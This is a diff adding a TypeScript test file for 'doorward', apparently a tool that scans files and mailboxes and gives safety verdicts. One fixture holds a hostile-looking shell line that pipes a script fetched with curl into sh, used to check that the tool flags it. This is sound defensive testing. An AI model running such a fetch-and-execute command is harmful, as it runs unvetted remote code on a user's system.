@@ -1,0 +1,100 @@
+import assert from "node:assert/strict";
+import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { Readable } from "node:stream";
+import { after, before, describe, it } from "node:test";
+import type { Verdict } from "@doorward/core";
+import { expectRefusal, runCommand } from "../run-command.test-support.ts";
+
+const fix = "#!/bin/sh\ncurl -s https://files.example/a.sh | sh\n";
+
+function parse(output: string): Verdict[] {
+  return output
+    .trimEnd()
+    .split("\n")
+    .map((line) => JSON.parse(line) as Verdict);
+}
+
+describe("doorward file", () => {
+  let folder = "";
+  before(() => {
+    folder = mkdtempSync(join(tmpdir(), "doorward-files-"));
+    writeFileSync(join(folder, "note.txt"), "hello\n");
+    mkdirSync(join(folder, "inside"));
+    writeFileSync(join(folder, "inside/fix.command"), fix);
+  });
+  after(() => rmSync(folder, { recursive: true, force: true }));
+  const at = (name: string) => join(folder, name);
+
+  it("tells a verdict with what would happen, in plain text, with nothing to click on", async () => {
+    const { status, output, errors } = await runCommand(["file", at("inside/fix.command")]);
+    assert.notEqual(status, 0, output);
+    assert.match(output, /What would happen/u);
+    assert.match(output, /What to do now/u);
+    assert.doesNotMatch(output, /https:\/\/files/u);
+    assert.equal(errors, "");
+  });
+
+  it("judges every file of a folder, one object a line, in the order of the names", async () => {
+    const { status, output } = await runCommand(["file", "--json", folder]);
+    const verdicts = parse(output);
+    assert.deepEqual(
+      verdicts.map(({ arrival, door }) => `${door} ${arrival.kind} ${arrival.name}`),
+      ["support file fix.command", "support file note.txt"],
+    );
+    assert.equal(verdicts[1]?.verdict, "clear");
+    assert.match(verdicts[1]?.arrival.sha256 ?? "", /^[\da-f]{64}$/u);
+    assert.notEqual(status, 0);
+  });
+
+  it("reads standard input", async () => {
+    const { output } = await runCommand(["file", "--json", "-"], { input: Readable.from([Buffer.from(fix)]) });
+    assert.equal(parse(output)[0]?.arrival.name, "standard-input");
+  });
+
+  it("says what to do at the interview door", async () => {
+    const [here] = parse((await runCommand(["file", "--json", "--door", "interview", at("note.txt")])).output);
+    assert.equal(here?.door, "interview");
+  });
+
+  it("refuses what it cannot judge, in one line that says what to do", async () => {
+    const empty = Readable.from([]);
+    const cases: readonly (readonly [readonly string[], number, string])[] = [
+      [["file"], 64, "Name the file to judge"],
+      [["file", "-", at("note.txt")], 64, "not both"],
+      [["file", at("missing")], 66, "There is nothing at"],
+      [["file", "--door", "hiring", at("note.txt")], 64, "no door"],
+      [["file", "--what", at("note.txt")], 64, "--what"],
+      [["file", "--dns", at("missing"), at("note.txt")], 66, "no records"],
+      [["file", "--dns", at("note.txt"), at("note.txt")], 66, "it is no JSON"],
+      [["file", "-"], 66, "nothing on standard input"],
+    ];
+    for (const [words, status, told] of cases) expectRefusal(await runCommand(words, { input: empty }), status, told);
+  });
+
+  it("explains rules about files, messages, links and code", async () => {
+    const { status, output } = await runCommand(["file", "--explain", "double-extension"]);
+    assert.equal(status, 0);
+    assert.match(output, /double-extension/u);
+  });
+});
+
+describe("doorward mail", () => {
+  it("judges every mail of an mbox by its number", async () => {
+    const mail = "From a@b.example Mon\nFrom: a@b.example\nTo: c@d.example\nSubject: one\n\nhello\n\n";
+    const { output } = await runCommand(["mail", "--json", "-"], { input: Readable.from([Buffer.from(mail + mail)]) });
+    assert.deepEqual(
+      parse(output).map(({ arrival }) => `${arrival.kind} ${arrival.name}`),
+      ["message standard-input#1", "message standard-input#2"],
+    );
+  });
+
+  it("says that a file is no message", async () => {
+    const { status, output } = await runCommand(["mail", "--json", "-"], {
+      input: Readable.from([Buffer.from("hello\n")]),
+    });
+    assert.equal(status, 1);
+    assert.match(parse(output)[0]?.because ?? "", /no message of a known format/u);
+  });
+});
